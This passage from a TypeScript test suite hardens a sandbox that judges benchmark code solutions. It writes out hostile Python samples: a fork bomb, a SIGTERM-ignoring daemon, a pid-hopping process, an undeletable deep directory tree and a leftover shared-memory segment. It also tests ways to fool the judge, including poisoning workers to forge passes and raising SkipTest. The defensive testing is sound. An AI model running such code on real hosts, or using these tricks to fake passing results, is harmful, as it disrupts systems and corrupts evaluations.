

${def(t)}    return ${t.wrongExpr}
`;
}

/** Job 1: a directory chain deeper than PATH_MAX (built with dir fds) in the job directory and in /tmp, top made mode 000. */
function deepTreeCode(t: Target): string {
  return String.raw`# fr-attack: a directory tree that path-based cleanup cannot remove
import posix


def _deep(parent):
    try:
        base = posix.open(parent, posix.O_RDONLY)
        posix.mkdir("${MARK}_deep", 0o700, dir_fd=base)
        cur = posix.open("${MARK}_deep", posix.O_RDONLY, dir_fd=base)
        for _ in range(1500):
            posix.mkdir("dd", 0o700, dir_fd=cur)
            nxt = posix.open("dd", posix.O_RDONLY, dir_fd=cur)
            posix.close(cur)
            cur = nxt
        posix.close(cur)
        posix.chmod("${MARK}_deep", 0, dir_fd=base)
        posix.close(base)
    except OSError:
        pass


_deep(posix.readlink("/proc/self/cwd"))
_deep("/tmp")


${def(t)}    return ${t.wrongExpr}
`;
}

/** Job 1: leaves a SysV shared-memory segment (IPC namespaces can outlive a job). */
function shmCode(t: Target): string {
  return String.raw`# fr-attack: leaves a SysV shared memory segment
import ctypes

ctypes.CDLL(None).shmget(${SHM_KEY}, 4096, 0o1000 | 0o666)


${def(t)}    return ${t.wrongExpr}
`;
}

/** Job 1: leaves a double-forked, setsid'd daemon that ignores SIGTERM/SIGHUP, closes its fds and lives 40 s. */
function daemonCode(t: Target): string {
  return String.raw`# fr-attack: leaves a daemon behind
import ctypes, posix, signal, time


def _daemon():
    if posix.fork() != 0:
        return
    try:
        posix.setsid()
        if posix.fork() != 0:
            posix._exit(0)
        ctypes.CDLL(None).prctl(15, b"${MARK}", 0, 0, 0)
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        posix.closerange(0, 1024)
        end = time.monotonic() + 40
        while time.monotonic() < end:
            time.sleep(0.2)
    finally:
        posix._exit(0)


_daemon()
time.sleep(0.2)


${def(t)}    return ${t.wrongExpr}
`;
}

/** Job 1: leaves a process that keeps changing its pid (fork, parent exits, setsid anew) for 25 s. */
function hopperCode(t: Target): string {
  return String.raw`# fr-attack: leaves a pid-hopping process behind
import ctypes, posix, signal, time


def _hopper():
    if posix.fork() != 0:
        return
    try:
        ctypes.CDLL(None).prctl(15, b"${MARK}", 0, 0, 0)
        signal.setitimer(signal.ITIMER_REAL, 0)
        posix.closerange(0, 1024)
        end = time.monotonic() + 25
        while time.monotonic() < end:
            try:
                if posix.fork() != 0:
                    posix._exit(0)
                posix.setsid()
            except OSError:
                pass
            time.sleep(0.01)
    finally:
        posix._exit(0)


_hopper()
time.sleep(0.2)


${def(t)}    return ${t.wrongExpr}
`;
}

/** Job 2: an honest right solution plus a probe that fails (naming what it saw) if anything of job 1 is visible. */
function probeCode(t: Target): string {
  return String.raw`# probe: an honest solution that fails if it can see what an earlier job left
import ctypes, posix

M = "${MARK}"
seen = []


def _walk(d, depth):
    try:
        names = posix.listdir(d)
    except OSError:
        return
    for n in names[:5000]:
        p = d.rstrip("/") + "/" + n
        if M in n:
            seen.append(p)
        elif depth > 0:
            try:
                if posix.lstat(p).st_mode & 0o170000 == 0o040000:
                    _walk(p, depth - 1)
            except OSError:
                pass


home = posix.environ.get(b"HOME", b"/tmp").decode()
cwd = posix.readlink("/proc/self/cwd")
for d in ("/tmp", "/dev/shm", "/var/tmp", home, cwd):
    _walk(d, 2)
_walk(cwd + "/..", 0)
for p in ("/non", "/tmp/tmp" + M[2:10]):
    try:
        posix.lstat(p)
        seen.append(p)
    except OSError:
        pass
for pid in posix.listdir("/proc"):
    try:
        if not pid.isdigit():
            continue
        fd = posix.open("/proc/%s/stat" % pid, posix.O_RDONLY)
        stat = posix.read(fd, 4096)
        posix.close(fd)
        # "pid (comm) state ...": a live process named after the marker (a zombie is dead, only not yet reaped).
        if M.encode() in stat[: stat.rfind(b")")] and stat[stat.rfind(b")") + 2 : stat.rfind(b")") + 3] != b"Z":
            seen.append("process %s" % pid)
    except OSError:
        pass
if ctypes.CDLL(None).shmget(${SHM_KEY}, 0, 0) >= 0:
    seen.append("SysV shm ${SHM_KEY}")
assert not seen, "left by an earlier job: %s" % sorted(set(seen))[:20]

${t.right}
`;
}

// ------------------------------------------------------------------------------------------------------------------
// Host-side helpers.

/** Names of the files the planting attack writes (their content carries the marker). */
const PLANTED_NAMES = new Set(SHADOW_MODULES.map((n) => `${n}.py`));

/** Removes from this host what the attacks left: processes named after the marker, files named with it, planted files. */
function cleanupHost(): void {
  // Processes the attacks left (daemons, pid hoppers) carry the marker as their name; a hopper changes pid, so repeat.
  for (let pass = 0; pass < 200; pass++) {
    let found = 0;
    for (const e of readdirSync('/proc')) {
      if (!/^\d+$/.test(e)) continue;
      try {
        const stat = readFileSync(`/proc/${e}/stat`, 'utf8');
        const close = stat.lastIndexOf(')');
        if (stat.slice(0, close).includes(`(${MARK}`) && stat[close + 2] !== 'Z') {
          found++;
          process.kill(Number(e), 'SIGKILL');
        }
      } catch {
        // gone already
      }
    }
    if (found === 0 && pass > 5) break;
  }
  const dirs = ['/tmp', '/dev/shm', '/var/tmp', '/tmp/fr-jobs', '/tmp/.local/lib'];
  if (existsSync('/tmp/fr-jobs')) for (const d of readdirSync('/tmp/fr-jobs')) dirs.push(`/tmp/fr-jobs/${d}`);
  for (const d of dirs) {
    if (!existsSync(d)) continue;
    for (const n of readdirSync(d)) {
      const p = `${d}/${n}`;
      let st;
      try {
        st = lstatSync(p);
      } catch {
        continue;
      }
      const planted = (PLANTED_NAMES.has(n) || n.endsWith('.pth')) && st.isFile() && st.size < 65536 && readFileSync(p, 'utf8').includes(MARK);
      const marked = n.includes(MARK) || n === `tmp${MARK.slice(2, 10)}` || planted;
      if (marked) spawnSync('rm', ['-rf', p]);
    }
  }
  for (const p of ['/tmp/.local/lib/python3.11/site-packages', '/tmp/.local/lib']) {
    if (!existsSync(p)) continue;
    for (const n of readdirSync(p)) {
      const f = `${p}/${n}`;
      const st = lstatSync(f);
      if (st.isFile() && (n.includes(MARK) || ((PLANTED_NAMES.has(n) || n.endsWith('.pth')) && st.size < 65536 && readFileSync(f, 'utf8').includes(MARK)))) rmSync(f);
    }
  }
  // The user-site directories the planting attack made (owned by the sandbox user, not root), once they are empty.
  for (const d of ['/tmp/.local/lib/python3.11/site-packages', '/tmp/.local/lib/python3.11', '/tmp/.local/lib', '/tmp/.local']) {
    if (existsSync(d) && lstatSync(d).uid !== 0 && readdirSync(d).length === 0) rmdirSync(d);
  }
  spawnSync('ipcrm', ['-M', String(SHM_KEY)]);
}

function requireMode(ex: Executor, mode: Mode): void {
  if (mode === 'bwrap' && ex.info.mode !== 'bwrap') {
    throw new Error(`bwrap mode was asked for but bubblewrap is not usable here (${findBwrap() === null ? 'no working bwrap binary' : 'fell back'}): install bubblewrap (apt-get install bubblewrap) to run the isolated half of this suite`);
  }
}

/** A result's status; for an executor that threw, what it threw. */
function statusOf(r: ExecResult): string {
  return r.status === 'sandbox-error' ? r.result : r.status;
}

function verdictOf(r: ExecResult): string {
  return `${r.status} / ${r.result.slice(0, 300)}${r.output !== undefined ? ` / output: ${r.output.slice(0, 200)}` : ''}`;
}

/** An attack's own verdict: never a pass. */
function expectNotPassed(r: ExecResult, what: string): void {
  expect(r.passed, `${what} got passed (${verdictOf(r)})`).toBe(false);
  expect(r.status, `${what}: a wrong solution must fail or time out`).not.toBe('pass');
}

/**
 * After an attack, on the same executor: sequential jobs land on the worker the attack used (the pool hands back the
 * last released worker), and a concurrent pair covers the other one. Statuses of honest wrong and right runs.
 */
async function honestRuns(ex: Executor, t: Target): Promise<{ wrong: string[]; right: string[]; seen: string }> {
  const wrong1 = await ex.run(t.job(t.wrong));
  const right1 = await ex.run(t.job(t.right));
  const pair = await Promise.all([ex.run(t.job(t.wrong)), ex.run(t.job(t.wrong))]);
  const right2 = await ex.run(t.job(t.right));
  return { wrong: [wrong1, ...pair].map((r) => r.status), right: [right1, right2].map((r) => r.status), seen: [wrong1, right1, ...pair, right2].map(verdictOf).join(' | ') };
}
const HEALTHY = { wrong: ['fail', 'fail', 'fail'], right: ['pass', 'pass'] };

/** Honest right must pass and honest wrong must fail after an attack (see honestRuns). */
async function expectHealthy(ex: Executor, t: Target, after: string): Promise<void> {
  const { seen, ...got } = await honestRuns(ex, t);
  expect(got, `after "${after}" the executor must still judge honest code: ${seen}`).toEqual(HEALTHY);
}

/** Runs a job; an executor that throws (instead of answering) is reported as a status, so one comparison shows it all. */
async function runSafe(ex: Executor, job: ExecJob): Promise<ExecResult> {
  try {
    return await ex.run(job);
  } catch (e) {
    return { passed: false, status: 'sandbox-error', result: `the executor threw: ${(e as Error).message}`, durationMs: 0 };
  }
}

/** A fresh executor for poisoning attacks: its workers preload the marker module, which the attacks use to find them. */
function attackExecutor(mode: Mode, workers = 1): Executor {
  return new Executor({ mode, workers, memoryMb: 1024, preload: [MARK_MODULE] });
}

// ------------------------------------------------------------------------------------------------------------------

beforeAll(async () => {
  await loadTargets();
}, 120_000);

afterAll(() => {
  cleanupHost();
});

/**
 * Which targets an attack runs on: every one it names in bwrap mode (the isolation we recommend); in process mode one
 * target per judging path (the first one judged outside the candidate's process, and the in-process BigCodeBench
 * one), since the judges are the same code in both modes and the suite must fit in CI's time.
 */
function kindsFor(on: readonly Kind[], mode: Mode): Kind[] {
  if (mode === 'bwrap') return [...on];
  const outside = on.find((k) => k !== 'bcb');
  return [...(outside !== undefined ? [outside] : []), ...(on.includes('bcb') ? (['bcb'] as Kind[]) : [])];
}

describe.each(MODES)('attacks on the executor (%s mode)', (mode) => {
  let ex: Executor;
  beforeAll(() => {
    ex = new Executor({ mode, workers: 2, memoryMb: 1024 });
  });
  afterAll(async () => {
    await ex.close();
  });

  it('runs with the isolation asked for', () => {
    requireMode(ex, mode);
    expect(ex.info.mode).toBe(mode);
  });

  it('judges the honest programs of every target correctly (baseline for all assertions below)', async () => {
    requireMode(ex, mode);
    for (const kind of [...ALL, 'he2', 'hep2'] as Kind[]) {
      const t = targets[kind];
      const right = await ex.run(t.job(t.right));
      const wrong = await ex.run(t.job(t.wrong));
      expect([kind, right.status, wrong.status], `${verdictOf(right)} | ${verdictOf(wrong)}`).toEqual([kind, 'pass', 'fail']);
    }
  }, 180_000);

  const classes: Array<[string, Attack[]]> = [
    ['1. introspection', INTROSPECTION],
    ['2. monkeypatching', MONKEYPATCH],
    ['4. harness hooks and crafted outputs', HOOKS],
    ['6. outputs to the judge', OUTPUTS],
  ];
  for (const [title, attacks] of classes) {
    describe(title, () => {
      for (const a of attacks) {
        for (const kind of kindsFor(a.on, mode)) {
          const limited = kind === 'bcb' && a.inProcessLimit !== undefined;
          it(`${TITLE[kind]}: ${a.name}${limited ? ` (in-process limit: ${a.inProcessLimit}; only the jobs after it are asserted)` : ''}`, async () => {
            requireMode(ex, mode);
            const t = targets[kind];
            const r = await ex.run(t.job(program(a, t), a.over));
            const { seen, ...after } = await honestRuns(ex, t);
            if (limited) {
              expect(after, `"${a.name}": honest code after it must be judged right: ${seen}`).toEqual(HEALTHY);
              return;
            }
            // One comparison, so a failure shows both: did the attack pass, and are the jobs after it judged honestly?
            expect(
              { attack: r.passed ? 'passed' : r.status === 'pass' ? 'status pass' : 'not passed', ...after },
              `"${a.name}" must not pass (${verdictOf(r)}), and honest code after it must be judged right: ${seen}`,
            ).toEqual({ attack: 'not passed', ...HEALTHY });
            a.check?.(r, t);
          }, a.ms ?? 90_000);
        }
      }
    });
  }

  describe('6. outputs to the judge: unittest.SkipTest', () => {
    it('BigCodeBench-style unittest: a task_func that raises SkipTest skips every test, which upstream counts as not failing (execution.md §5)', async () => {
      requireMode(ex, mode);
      const t = targets.bcb;
      const r = await ex.run(t.job(`import unittest\n\n\ndef task_func(text):\n    raise unittest.SkipTest("no")\n`));
      // §5: "pass iff the child finished and it recorded no failures and no errors. Skips and expected failures do not fail."
      expect(r.status, verdictOf(r)).toBe('pass');
      await expectHealthy(ex, t, 'SkipTest from every test');
    }, 90_000);

    it('BigCodeBench-style unittest: SkipTest raised at module level is an exception outside the suite, so fail (details ALL)', async () => {
      requireMode(ex, mode);
      const t = targets.bcb;
      const r = await ex.run(t.job(`import unittest\nraise unittest.SkipTest("no")\n`));
      expect(r.status, verdictOf(r)).toBe('fail');
      expect(r.firstFailure?.name).toBe('ALL');
    }, 90_000);
  });

  describe('3. reaching the warm parent and the judge (own executor, workers: 1)', () => {
    for (const a of POISON) {
      for (const kind of kindsFor(a.on, mode)) {
        it(`${TITLE[kind]}: ${a.name}`, async () => {
          const own = attackExecutor(mode);
          try {
            requireMode(own, mode);
            const t = targets[kind];
            const r = await own.run(t.job(program(a, t), a.over));
            const later = [await runSafe(own, t.job(t.wrong)), await runSafe(own, t.job(t.right)), await runSafe(own, t.job(t.wrong))];
            // One comparison, so a failure shows both: did the attack pass, and did it poison the jobs after it?
            expect(
              { attack: r.passed ? 'passed' : 'not passed', later: later.map(statusOf) },
              `"${a.name}": the attack must not pass, and the same worker must judge the next jobs (wrong, right, wrong) honestly: ${[r, ...later].map(verdictOf).join(' | ')}`,
            ).toEqual({ attack: 'not passed', later: ['fail', 'pass', 'fail'] });
          } finally {
            await own.close();
            cleanupHost();
          }
        }, a.ms ?? 90_000);
      }
    }

    it('rewrites "fail" and forges answers in every process of its executor (siblings included): concurrent and later wrong jobs on any worker must still fail', async () => {
      const own = attackExecutor(mode, 2);
      try {
        requireMode(own, mode);
        const t = targets.he;
        await own.warmup('plain');
        // The neighbour starts while the attack runs, so it is forked from a parent the attack may already have rewritten.
        const [r, neighbour] = await Promise.all([own.run(t.job(program(POISON_EVERY_PROCESS, t))), new Promise((res) => setTimeout(res, 150)).then(() => own.run(t.job(t.wrong)))]);
        const later = await Promise.all([runSafe(own, t.job(t.wrong)), runSafe(own, t.job(t.wrong))]);
        const rights = await Promise.all([runSafe(own, t.job(t.right)), runSafe(own, t.job(t.right))]);
        expect(
          { attack: r.passed ? 'passed' : 'not passed', neighbour: statusOf(neighbour), laterWrong: later.map(statusOf), laterRight: rights.map(statusOf) },
          `${POISON_EVERY_PROCESS.name}: ${[r, neighbour, ...later, ...rights].map(verdictOf).join(' | ')}`,
        ).toEqual({ attack: 'not passed', neighbour: 'fail', laterWrong: ['fail', 'fail'], laterRight: ['pass', 'pass'] });
      } finally {
        await own.close();
        cleanupHost();
      }
    }, 90_000);
  });

  describe('5. between jobs', () => {
    const leftovers: Array<[string, (t: Target) => string]> = [
      ['files in /tmp, /dev/shm, /var/tmp, $HOME, the job directory and its parent, a job-directory look-alike, /non/existent/path', leaveFilesCode],
      ['a directory tree deeper than PATH_MAX, top made mode 000, in the job directory and in /tmp', deepTreeCode],
      ['a SysV shared-memory segment', shmCode],
      ["a double-forked, setsid'd daemon that ignores SIGTERM/SIGHUP and closes its fds", daemonCode],
      ['a process that keeps changing its pid (fork, parent exits, setsid again)', hopperCode],
    ];
    for (const [what, code] of leftovers) {
      for (const kind of ['he', 'bcb'] as Kind[]) {
        it(`${TITLE[kind]}: the next job cannot see ${what}`, async () => {
          const own = attackExecutor(mode);
          try {
            requireMode(own, mode);
            const t = targets[kind];
            const r = await own.run(t.job(code(t)));
            const probe = await runSafe(own, t.job(probeCode(t)));
            const later = [await runSafe(own, t.job(t.wrong)), await runSafe(own, t.job(t.right))];
            expect(
              { attack: r.passed ? 'passed' : 'not passed', probe: probe.result, later: later.map(statusOf) },
              `after leaving ${what}, an honest probe job must see nothing of it, and the worker must judge the next jobs honestly: ${[r, probe, ...later].map(verdictOf).join(' | ')}`,
            ).toEqual({ attack: 'not passed', probe: 'passed', later: ['fail', 'pass'] });
          } finally {
            await own.close();
            cleanupHost();
          }
        }, 90_000);
      }
    }

    it('a fork bomb does not make a concurrent honest neighbour (which starts two processes itself) fail or time out, 10 times over', async () => {
      const own = new Executor({ mode, workers: 2, memoryMb: 1024 });
      try {
        requireMode(own, mode);
        await Promise.all([own.warmup('plain'), own.warmup('bigcodebench')]);
        const bomb = targets.he.job(
          '# fr-attack: fork bomb that keeps every process slot it gets until it is killed\nimport posix, time\nwhile True:\n    try:\n        if posix.fork() == 0:\n            time.sleep(60)\n            posix._exit(0)\n    except OSError:\n        time.sleep(0.005)\n',
          { timeoutS: 2 },
        );
        const neighbour = targets.bcb.job(`import subprocess\n\n${BCB_RIGHT}\n\n_ = [subprocess.run(["true"], check=True) for _ in range(2)]\n`);
        const seen: string[] = [];
        for (let i = 0; i < 10; i++) {
          const [b, n] = await Promise.all([own.run(bomb), new Promise((res) => setTimeout(res, 400)).then(() => own.run(neighbour))]);
          expectNotPassed(b, 'the fork bomb');
          seen.push(`${i}: ${verdictOf(n)}`);
        }
        expect(seen.filter((s) => !s.includes(': pass / passed')), seen.join('\n')).toEqual([]);
      } finally {
        await own.close();
        cleanupHost();
      }
    }, 240_000);
  });
});
